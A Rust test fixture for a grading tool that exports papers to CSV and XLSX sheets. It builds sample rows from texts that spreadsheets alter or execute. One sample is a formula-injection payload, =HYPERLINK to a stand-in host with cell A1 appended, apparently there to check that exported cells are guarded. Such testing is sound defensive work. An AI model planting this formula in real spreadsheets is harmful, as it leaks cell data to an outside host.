//! The paper that the tests send out.

use calibrant_schema::exercise::{Paper, PaperCriterion, PaperUnit};
use calibrant_schema::{Card, Scale, Turn};
use calibrant_store::sheets::{Returned, Roster, csv_sheet, read_returned, xlsx_sheet};

/// Texts that programs are known to change, run or lose.
pub const TEXTS: [&str; 8] = [
    "=HYPERLINK(\"http://a.example/?\"&A1)\n+1",
    "@SUM(A1)\twith a tab",
    "－1 ＝2",
    "semi;colon, comma \"quote\" 'single' “smart”",
    "שלום \u{200f}עולם, 3,5 mg",
    "👩‍⚕️ two\r\nlines\rthree",
    "NUL \0 and bell \u{7}",
    "'=already guarded",
];

/// Two answers a text, two criteria: one met or not, one on three levels.
pub fn paper() -> Paper {
    let card = |question: &str, scale: Scale| Card {
        question: question.to_owned(),
        pass_example: Some("=A1 passes".to_owned()),
        fail_example: Some("A near miss".to_owned()),
        boundary: Some("A range counts; \"about\" does not.".to_owned()),
        scale,
    };
    let criterion = |id: &str, card: Card| PaperCriterion {
        criterion: id.to_owned(),
        hash: card.hash(),
        card,
    };
    let turn = |role: &str, text: &str| Turn {
        role: role.to_owned(),
        text: text.to_owned(),
    };
    let units = TEXTS.iter().enumerate().map(|(at, text)| PaperUnit {
        // Sixteen digits, and digits around an e: what spreadsheets take for numbers.
        unit: format!("{}00000000000{at:03}", if at % 2 == 0 { "1e" } else { "12" }),
        prompt: vec![turn("system", "Be brief."), turn("user", text)],
        response: vec![turn("assistant", text)],
        criteria: if at == 7 { vec![0] } else { vec![0, 1] },
    });
    Paper {
        exercise: "0123456789abcdef0123456789abcdef".to_owned(),
        grader: "ana".to_owned(),
        rubric: Some("Dates".to_owned()),
        criteria: vec![
            criterion("dated", card("=1+1 Is there a date?", Scale::Binary)),
            criterion("3-5", card("How clear?", "0,0.5,1".parse().expect("a scale"))),
        ],
        units: units.collect(),
    }
}

pub fn csv() -> String {
    String::from_utf8(csv_sheet(&paper(), "ana.html").bytes).expect("the sheet is UTF-8")
}

pub fn xlsx() -> Vec<u8> {
    xlsx_sheet(&paper(), "ana.html").bytes
}

/// The sheet with these words in the verdict cells, row after row, and the last in the comment of the first row.
pub fn filled(words: &[&str], comment: &str) -> String {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(csv_bytes());
    let mut writer = csv::Writer::from_writer(Vec::new());
    for (at, row) in reader.records().enumerate() {
        let row = row.expect("a row of the sheet");
        let mut cells: Vec<String> = row.iter().map(str::to_owned).collect();
        if at > 0 {
            cells[6] = words.get(at - 1).copied().unwrap_or_default().to_owned();
        }
        if at == 1 {
            comment.clone_into(&mut cells[7]);
        }
        writer.write_record(cells).expect("memory takes bytes");
    }
    String::from_utf8(writer.into_inner().expect("memory takes bytes")).expect("UTF-8")
}

fn csv_bytes() -> std::io::Cursor<Vec<u8>> {
    std::io::Cursor::new(csv().trim_start_matches('\u{feff}').as_bytes().to_vec())
}

pub fn read(file: &str, bytes: &[u8]) -> Returned {
    let paper = paper();
    let roster = Roster::new(&paper, ["ana", "ben"]);
    read_returned(file, bytes, &roster).unwrap_or_else(|findings| panic!("{findings}"))
}

pub fn clean(file: &str, bytes: &[u8]) -> Returned {
    let returned = read(file, bytes);
    assert!(returned.findings.is_empty(), "{}", returned.shown_findings());
    returned
}

/// The id and place of every finding.
pub fn found(returned: &Returned) -> Vec<(&'static str, u32, u32)> {
    let place =
        |finding: &calibrant_schema::Diagnostic| finding.span.as_ref().map_or((0, 0), |span| (span.line, span.column));
    returned
        .findings
        .iter()
        .map(|finding| (finding.id, place(finding).0, place(finding).1))
        .collect()
}
